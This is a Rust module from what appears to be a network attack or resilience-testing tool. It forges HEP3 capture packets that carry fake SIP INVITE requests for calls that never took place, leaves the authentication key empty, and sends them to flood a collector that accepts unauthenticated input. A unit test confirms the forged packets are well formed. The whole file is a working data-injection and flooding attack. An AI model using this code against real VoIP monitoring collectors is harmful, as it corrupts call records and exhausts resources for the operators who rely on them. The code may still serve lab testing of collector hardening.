//! HEP3 packets (EEP rev. 3) of calls that nobody made, without a key: they fill a collector that
//! takes whatever comes.

use crate::datagrams;
use crate::sockets::{Numbers, Pace, SocketAttack};
use std::net::Ipv4Addr;

/// Magic and length.
const HEADER: usize = 6;

fn chunk(out: &mut Vec<u8>, number: u16, body: &[u8]) {
    out.extend_from_slice(&[0, 0]); // vendor
    out.extend_from_slice(&number.to_be_bytes());
    // Bodies are shorter than a datagram.
    out.extend_from_slice(&u16::try_from(6 + body.len()).unwrap_or(u16::MAX).to_be_bytes());
    out.extend_from_slice(body);
}

fn packet(source: Ipv4Addr, seconds: u32, name: u64, out: &mut Vec<u8>) {
    let message = format!(
        "INVITE sip:{name:x}@lab SIP/2.0\r\n\
        Via: SIP/2.0/UDP {source}:5060;branch=z9hG4bK{name:x}\r\n\
        From: <sip:nobody@lab>;tag={name:x}\r\nTo: <sip:{name:x}@lab>\r\nCall-ID: {name:x}\r\n\
        CSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n"
    );
    out.extend_from_slice(b"HEP3\0\0");
    chunk(out, 1, &[2]);
    chunk(out, 2, &[17]);
    chunk(out, 3, &source.octets());
    chunk(out, 4, &[127, 0, 0, 1]);
    chunk(out, 7, &5_060u16.to_be_bytes());
    chunk(out, 8, &5_060u16.to_be_bytes());
    chunk(out, 9, &seconds.to_be_bytes());
    chunk(out, 10, &[0; 4]);
    chunk(out, 11, &[1]);
    chunk(out, 12, &[0, 0, 0, 66]);
    chunk(out, 15, message.as_bytes());
    let length = u16::try_from(out.len()).unwrap_or(u16::MAX);
    out[HEADER - 2..HEADER].copy_from_slice(&length.to_be_bytes());
}

pub(crate) fn run(attack: &SocketAttack, pace: &mut Pace) -> anyhow::Result<()> {
    let mut names = Numbers::new(3);
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH)?;
    let seconds = u32::try_from(now.as_secs()).unwrap_or(u32::MAX);
    datagrams::send(attack, pace, |source, _, out| packet(source, seconds, names.next(), out))
}

#[cfg(test)]
mod tests {
    use crate::SocketKind;
    use crate::datagrams::tests::arrived;

    #[test]
    fn every_packet_is_a_whole_one_with_a_request_and_without_a_key() {
        let (all, _) = arrived(SocketKind::Hep);
        for bytes in all {
            let packet = hep::Packet::parse(&bytes).unwrap();
            assert!(packet.payload.starts_with(b"INVITE sip:") && packet.auth_key.is_empty());
        }
    }
}
